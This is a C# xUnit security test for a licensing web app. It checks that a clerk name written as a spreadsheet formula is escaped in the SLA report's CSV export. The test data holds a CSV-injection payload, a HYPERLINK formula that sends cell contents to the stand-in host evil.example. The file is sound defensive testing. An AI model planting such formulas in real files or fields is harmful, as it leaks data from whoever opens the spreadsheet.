using System.Net;
using System.Text;
using Sicantik.Perizinan;
using Sicantik.Web.Tests.Support;

namespace Sicantik.Web.Tests.Security;

/// <summary>A name that a spreadsheet would run as a formula reaches the report's CSV as text.</summary>
public sealed class CsvInjectionTests(SicantikWebFactory host) : IClassFixture<SicantikWebFactory>
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Klik\")";

    [Fact]
    public async Task SlaCsv_NeutralisesAClerkNamedLikeAFormula()
    {
        using var clerk = await host.CreateNamedClerkAsync(Formula, SopRoles.FoPendaftaran);
        using var kasi = await host.CreateClerkAsync(SopRoles.KasiPerizinan);
        using var applicant = await Sop.RegisterApplicantAsync(host);
        var application = await Sop.SubmitNewAsync(applicant.Client);
        await Sop.WorkAsync(clerk, application.Id, Steps.VerifikasiKelengkapan, "lengkap");

        using var response = await kasi.Client.GetAsync("/api/reports/sla/csv?from=2030-03-04&to=2030-03-04");

        await TestApi.EnsureAsync(response, HttpStatusCode.OK);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        var lines = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3).Split("\r\n");
        var row = Assert.Single(lines, l => l.StartsWith($"\"{clerk.UserId}\";", StringComparison.Ordinal));
        Assert.StartsWith($"\"{clerk.UserId}\";\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1;\"\"Klik\"\")\";1;", row, StringComparison.Ordinal);
        Assert.DoesNotContain(lines, l => l.Contains(";=", StringComparison.Ordinal) || l.Contains(";\"=", StringComparison.Ordinal));
    }
}
